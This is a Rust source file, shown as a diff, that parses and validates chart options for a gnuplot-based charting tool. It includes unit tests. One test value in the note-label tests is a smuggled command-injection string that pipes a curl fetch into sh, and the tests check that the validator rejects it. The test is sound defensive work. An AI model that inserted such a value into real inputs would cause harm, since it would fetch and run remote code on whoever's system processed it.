@@ -0,0 +1,442 @@
+use chrono::NaiveDate;
+use chrono::format::{Item, StrftimeItems};
+use serde::{Deserialize, Serialize};
+use crate::render::ImageFormat;
+
+// The data for a single chart: a date axis (unix timestamps) with up to two series
+#[derive(Debug, Clone)]
+pub struct Chart {
+    pub title: String,
+    pub x: Vec<i64>,
+    pub y1: Vec<f32>,
+    pub y2: Vec<f32>,
+    pub y1_label: String,
+    pub y2_label: String,
+}
+
+// How a series' values map onto its Y axis
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Scale {
+    Linear,
+    Log,
+}
+
+impl Scale {
+    fn parse(value: &str) -> Result<Scale, String> {
+        match value.to_lowercase().as_str() {
+            "linear" | "lin" => Ok(Scale::Linear),
+            "log" => Ok(Scale::Log),
+            _ => Err(format!("Unknown scale {:}, use log or linear", value)),
+        }
+    }
+
+    // Log axes can't show zero or negative values, so those points become gaps in the line
+    pub fn prepare(&self, values: Vec<f32>) -> Vec<f32> {
+        match self {
+            Scale::Linear => values,
+            Scale::Log => values.into_iter().map(|v| if v > 0.0 { v } else { std::f32::NAN }).collect(),
+        }
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq)]
+#[serde(rename_all = "lowercase")]
+pub enum Theme {
+    Light,
+    Dark,
+}
+
+impl Theme {
+    pub fn parse(value: &str) -> Result<Theme, String> {
+        match value.to_lowercase().as_str() {
+            "light" => Ok(Theme::Light),
+            "dark" => Ok(Theme::Dark),
+            _ => Err(format!("Unknown theme {:}, use light or dark", value)),
+        }
+    }
+
+    pub fn name(&self) -> &'static str {
+        match self {
+            Theme::Light => "light",
+            Theme::Dark => "dark",
+        }
+    }
+
+    pub fn background(&self) -> &'static str {
+        match self {
+            Theme::Light => "#ffffff",
+            Theme::Dark => "#1d1f21",
+        }
+    }
+
+    pub fn foreground(&self) -> &'static str {
+        match self {
+            Theme::Light => "#000000",
+            Theme::Dark => "#e0e0e0",
+        }
+    }
+
+    fn y1_color(&self) -> &'static str {
+        match self {
+            Theme::Light => "#000000",
+            Theme::Dark => "#f0c674",
+        }
+    }
+
+    fn y2_color(&self) -> &'static str {
+        match self {
+            Theme::Light => "#0000ff",
+            Theme::Dark => "#81a2be",
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum SeriesStyle {
+    Lines,
+    Bars,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum LegendPosition {
+    Hidden,
+    TopLeft,
+    TopRight,
+    BottomLeft,
+    BottomRight,
+}
+
+// A labelled vertical marker on the date axis, e.g. when a policy changed
+#[derive(Debug, Clone, PartialEq)]
+pub struct Annotation {
+    pub date: NaiveDate,
+    pub label: String,
+}
+
+// Everything about how a chart looks, independent of the data in it
+#[derive(Debug, Clone)]
+pub struct ChartSpec {
+    pub width: u32,
+    pub height: u32,
+    pub theme: Theme,
+
+    // Override the theme's series colours, always #rrggbb (see parse_color)
+    pub y1_color: Option<String>,
+    pub y2_color: Option<String>,
+
+    pub font: String,
+    pub font_size: f64,
+    pub date_format: String,
+    pub style: SeriesStyle,
+    pub legend: LegendPosition,
+    pub annotations: Vec<Annotation>,
+
+    pub y1_scale: Scale,
+    pub y2_scale: Scale,
+
+    // Whether to draw the secondary series (e.g. positivity on the new cases chart) when there is one
+    pub show_y2: bool,
+
+    // Not strictly how the chart looks, but it's chosen per command along with everything else
+    pub format: ImageFormat,
+}
+
+impl Default for ChartSpec {
+    fn default() -> ChartSpec {
+        return ChartSpec{
+            width: 800,
+            height: 400,
+            theme: Theme::Light,
+            y1_color: None,
+            y2_color: None,
+            font: "Helvetica".to_string(),
+            font_size: 12.0,
+            date_format: "%m/%d".to_string(),
+            style: SeriesStyle::Lines,
+            legend: LegendPosition::Hidden,
+            annotations: Vec::new(),
+            y1_scale: Scale::Linear,
+            y2_scale: Scale::Linear,
+            show_y2: false,
+            format: ImageFormat::Png,
+        };
+    }
+}
+
+// Big enough for a wall display, small enough that gnuplot doesn't take forever
+const MAX_DIMENSION: u32 = 4000;
+
+impl ChartSpec {
+    pub fn with_theme(theme: Theme) -> ChartSpec {
+        let mut spec = ChartSpec::default();
+        spec.theme = theme;
+        return spec;
+    }
+
+    pub fn y1_color(&self) -> String {
+        return self.y1_color.clone().unwrap_or(self.theme.y1_color().to_string());
+    }
+
+    pub fn y2_color(&self) -> String {
+        return self.y2_color.clone().unwrap_or(self.theme.y2_color().to_string());
+    }
+
+    fn set(&mut self, key: &str, value: &str) -> Result<bool, String> {
+        match key {
+            "scale" => self.y1_scale = Scale::parse(value)?,
+            "scale2" => self.y2_scale = Scale::parse(value)?,
+            "y2" => {
+                self.show_y2 = match value.to_lowercase().as_str() {
+                    "on" | "show" | "yes" => true,
+                    "off" | "hide" | "no" => false,
+                    _ => return Err(format!("Unknown value for y2: {:}, use on or off", value)),
+                }
+            },
+            "theme" => self.theme = Theme::parse(value)?,
+            "format" => self.format = ImageFormat::parse(value)?,
+            "color" => self.y1_color = Some(parse_color_option(value)?),
+            "color2" => self.y2_color = Some(parse_color_option(value)?),
+            "size" => {
+                let dims: Vec<Result<u32, _>> = value.to_lowercase().split("x").map(|d| d.parse::<u32>()).collect();
+                let parsed: Vec<u32> = dims.iter().filter_map(|d| d.clone().ok()).collect();
+                if dims.len() != 2 || parsed.len() != 2 {
+                    return Err(format!("Couldn't read size {:}, use <width>x<height> e.g. 1200x600", value));
+                }
+                if parsed[0] == 0 || parsed[1] == 0 || parsed[0] > MAX_DIMENSION || parsed[1] > MAX_DIMENSION {
+                    return Err(format!("Chart size must be between 1 and {:} pixels on each side", MAX_DIMENSION));
+                }
+                self.width = parsed[0];
+                self.height = parsed[1];
+            },
+            "font" => self.font = parse_font(value)?,
+            "fontsize" => {
+                self.font_size = match value.parse::<f64>() {
+                    Ok(size) if size > 0.0 && size <= 72.0 => size,
+                    _ => return Err(format!("Couldn't read font size {:}", value)),
+                }
+            },
+            "dateformat" => self.date_format = parse_date_format(value)?,
+            "style" => {
+                self.style = match value.to_lowercase().as_str() {
+                    "lines" | "line" => SeriesStyle::Lines,
+                    "bars" | "bar" => SeriesStyle::Bars,
+                    _ => return Err(format!("Unknown style {:}, use lines or bars", value)),
+                }
+            },
+            "legend" => {
+                self.legend = match value.to_lowercase().as_str() {
+                    "none" | "off" => LegendPosition::Hidden,
+                    "topleft" => LegendPosition::TopLeft,
+                    "topright" | "on" => LegendPosition::TopRight,
+                    "bottomleft" => LegendPosition::BottomLeft,
+                    "bottomright" => LegendPosition::BottomRight,
+                    _ => return Err(format!("Unknown legend position {:}, use topleft, topright, bottomleft, bottomright or none", value)),
+                }
+            },
+            "note" => {
+                // note=2020-05-25:Memorial_Day
+                let colon = match value.find(":") {
+                    Some(colon) => colon,
+                    None => return Err(format!("Couldn't read note {:}, use note=<YYYY-MM-DD>:<label>", value)),
+                };
+                let date = match NaiveDate::parse_from_str(&value[..colon], "%Y-%m-%d") {
+                    Ok(date) => date,
+                    Err(_) => return Err(format!("Couldn't read note date {:}, use YYYY-MM-DD", &value[..colon])),
+                };
+                self.annotations.push(Annotation{date: date, label: parse_note_label(&value[colon+1..])?});
+            },
+            _ => return Ok(false),
+        }
+        return Ok(true);
+    }
+}
+
+// Options end up in a gnuplot script, so they're limited to what's needed rather than trusting
+// them to be quoted properly
+const MAX_OPTION_LENGTH: usize = 32;
+
+// #rrggbb, or one of the handful of colour names people actually type
+pub fn parse_color(color: &str) -> Option<(u8, u8, u8)> {
+    if color.starts_with("#") {
+        // Checked before parsing, since from_str_radix would also take a leading +
+        if color.len() != 7 || !color[1..].chars().all(|c| c.is_ascii_hexdigit()) {
+            return None;
+        }
+        let rgb = u32::from_str_radix(&color[1..], 16).ok()?;
+        return Some(((rgb >> 16) as u8, (rgb >> 8) as u8, rgb as u8));
+    }
+    match color.to_lowercase().as_str() {
+        "black" => Some((0, 0, 0)),
+        "white" => Some((255, 255, 255)),
+        "red" => Some((220, 20, 20)),
+        "green" => Some((20, 160, 20)),
+        "blue" => Some((0, 0, 255)),
+        "orange" => Some((255, 140, 0)),
+        "purple" => Some((128, 0, 128)),
+        "gray" | "grey" => Some((128, 128, 128)),
+        "yellow" => Some((230, 200, 0)),
+        _ => None,
+    }
+}
+
+// Colour options are stored as #rrggbb whatever they were given as, so every renderer agrees
+fn parse_color_option(value: &str) -> Result<String, String> {
+    match parse_color(value) {
+        Some((r, g, b)) => Ok(format!("#{:02x}{:02x}{:02x}", r, g, b)),
+        None => Err(format!("Unknown colour {:}, use #rrggbb or black, white, red, green, blue, orange, purple, gray or yellow", value)),
+    }
+}
+
+// Font names are letters, numbers, spaces (typed as _) and dashes
+fn parse_font(value: &str) -> Result<String, String> {
+    let font = value.replace("_", " ");
+    if font.trim().is_empty() || font.len() > MAX_OPTION_LENGTH || !font.chars().all(|c| c.is_ascii_alphanumeric() || c == ' ' || c == '-') {
+        return Err(format!("Couldn't read font {:}, use a name like Helvetica or DejaVu_Sans", value));
+    }
+    return Ok(font);
+}
+
+// Note labels are words (spaces typed as _) and simple punctuation. No quotes, backslashes or
+// backquotes, which gnuplot would act on inside a label, nor its enhanced text markup.
+fn parse_note_label(value: &str) -> Result<String, String> {
+    let label = value.replace("_", " ");
+    let allowed = |c: char| c.is_ascii_alphanumeric() || " .,:;!?-/()+%".contains(c);
+    if label.trim().is_empty() || label.len() > MAX_OPTION_LENGTH || !label.chars().all(allowed) {
+        return Err(format!("Couldn't read note {:}, use letters, numbers and _ for spaces, e.g. note=2020-05-25:Memorial_Day", value));
+    }
+    return Ok(label);
+}
+
+// A strftime format for the date axis. Formatting a date with a bad one fails when the chart is
+// drawn, so catch it here.
+fn parse_date_format(value: &str) -> Result<String, String> {
+    let allowed = |c: char| c.is_ascii_alphanumeric() || "%-/.:,_ ".contains(c);
+    if value.len() > MAX_OPTION_LENGTH || !value.chars().all(allowed) {
+        return Err(format!("Couldn't read date format {:}, use strftime codes like %m/%d", value));
+    }
+    if StrftimeItems::new(value).any(|item| item == Item::Error) {
+        return Err(format!("Couldn't read date format {:}, use strftime codes like %m/%d", value));
+    }
+    return Ok(value.to_string());
+}
+
+// Pulls chart options out of the words of a command, applying them on top of spec and returning the
+// command with them removed. Options are key=value words, see OPTIONS_HELP.
+pub fn extract_options(text: &str, spec: ChartSpec) -> Result<(String, ChartSpec), String> {
+    let mut spec = spec;
+    let mut remaining = Vec::new();
+    for word in text.split_whitespace() {
+        let eq = match word.find("=") {
+            Some(eq) => eq,
+            None => {
+                remaining.push(word);
+                continue;
+            }
+        };
+        let key = word[..eq].to_lowercase();
+        let value = &word[eq+1..];
+        if !spec.set(&key, value)? {
+            remaining.push(word);
+        }
+    }
+    return Ok((remaining.join(" "), spec));
+}
+
+pub const OPTIONS_HELP: &str = "scale=log|linear, scale2=log|linear (secondary line), y2=on (show the secondary line, % positive on case charts), \
+theme=light|dark, color=<name or #rrggbb>, color2=..., size=<width>x<height>, font=<name> (gnuplot only), fontsize=<points>, dateformat=<strftime format>, \
+style=lines|bars, legend=topleft|topright|bottomleft|bottomright|none, note=<YYYY-MM-DD>:<label>, format=png|svg|pdf";
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn options(text: &str) -> Result<(String, ChartSpec), String> {
+        return extract_options(text, ChartSpec::default());
+    }
+
+    #[test]
+    fn every_option() {
+        let (rest, spec) = options("scale=log scale2=LOG y2=on theme=dark format=svg size=1200x600 font=DejaVu_Sans fontsize=14 \
+                                    dateformat=%Y-%m-%d style=bars legend=bottomleft").unwrap();
+        assert_eq!(rest, "");
+        assert_eq!(spec.y1_scale, Scale::Log);
+        assert_eq!(spec.y2_scale, Scale::Log);
+        assert!(spec.show_y2);
+        assert_eq!(spec.theme, Theme::Dark);
+        assert_eq!(spec.format, ImageFormat::Svg);
+        assert_eq!((spec.width, spec.height), (1200, 600));
+        assert_eq!(spec.font, "DejaVu Sans");
+        assert_eq!(spec.font_size, 14.0);
+        assert_eq!(spec.date_format, "%Y-%m-%d");
+        assert_eq!(spec.style, SeriesStyle::Bars);
+        assert_eq!(spec.legend, LegendPosition::BottomLeft);
+
+        let (_, spec) = options("scale=lin y2=off legend=none style=line").unwrap();
+        assert_eq!(spec.y1_scale, Scale::Linear);
+        assert!(!spec.show_y2);
+        assert_eq!(spec.legend, LegendPosition::Hidden);
+        assert_eq!(spec.style, SeriesStyle::Lines);
+    }
+
+    #[test]
+    fn later_options_win() {
+        let (_, spec) = options("theme=dark theme=light note=2020-05-01:a note=2020-06-01:b").unwrap();
+        assert_eq!(spec.theme, Theme::Light);
+        // Notes add up instead
+        assert_eq!(spec.annotations.len(), 2);
+        let (_, spec) = extract_options("size=100x100", spec).unwrap();
+        assert_eq!(spec.theme, Theme::Light);
+        assert_eq!((spec.width, spec.height), (100, 100));
+    }
+
+    #[test]
+    fn leaves_other_words() {
+        let (rest, spec) = options("custom CA  y1 positive+x=2 SCALE=log last 7d").unwrap();
+        assert_eq!(rest, "custom CA y1 positive+x=2 last 7d");
+        assert_eq!(spec.y1_scale, Scale::Log);
+        let (rest, _) = options("CA zoom=2 =5").unwrap();
+        assert_eq!(rest, "CA zoom=2 =5");
+    }
+
+    #[test]
+    fn rejects_bad_values() {
+        for text in ["scale=cubic", "y2=maybe", "theme=purple", "format=gif", "size=big", "size=1200", "size=0x600",
+                     "size=1200x600x2", "size=5000x600", "font=", "font=Comic\"Sans", "font=a_very_long_font_name_that_goes_on_forever",
+                     "fontsize=0", "fontsize=100", "fontsize=big", "dateformat=%Q", "dateformat=%m\"%d", "style=dots",
+                     "legend=middle", "color=mauve"].iter() {
+            assert!(options(text).is_err(), "{:}", text);
+        }
+    }
+
+    #[test]
+    fn colors() {
+        assert_eq!(parse_color("#ff8000"), Some((255, 128, 0)));
+        assert_eq!(parse_color("#FF8000"), Some((255, 128, 0)));
+        assert_eq!(parse_color("Orange"), Some((255, 140, 0)));
+        for color in ["#aébcd", "#ff800", "#ff80000", "#+f8000", "#gg8000", "ff8000", "#", "mauve"].iter() {
+            assert_eq!(parse_color(color), None, "{:}", color);
+        }
+        let (_, spec) = options("color=red color2=#00FF00").unwrap();
+        assert_eq!(spec.y1_color.as_deref(), Some("#dc1414"));
+        assert_eq!(spec.y2_color.as_deref(), Some("#00ff00"));
+        assert!(options("color=#aébcd").is_err());
+    }
+
+    #[test]
+    fn notes() {
+        let (rest, spec) = options("CA note=2020-05-25:Memorial_Day").unwrap();
+        assert_eq!(rest, "CA");
+        assert_eq!(spec.annotations, vec![Annotation{date: NaiveDate::from_ymd(2020, 5, 25), label: "Memorial Day".to_string()}]);
+        let (_, spec) = options("note=2020-05-25:Reopening:_phase_2").unwrap();
+        assert_eq!(spec.annotations[0].label, "Reopening: phase 2");
+    }
+
+    #[test]
+    fn rejects_unsafe_notes() {
+        for text in ["note=2020-05-25:`curl_evil|sh`", "note=2020-05-25:say_\"hi\"", "note=2020-05-25:it's", "note=2020-05-25:a\\b",
+                     "note=2020-05-25:x^2", "note=2020-05-25:", "note=2020-05-25:_", "note=2020-05-25:a_very_long_label_that_goes_on_and_on",
+                     "note=Memorial_Day", "note=2020-13-01:Smarch"].iter() {
+            assert!(options(text).is_err(), "{:}", text);
+        }
+    }
+}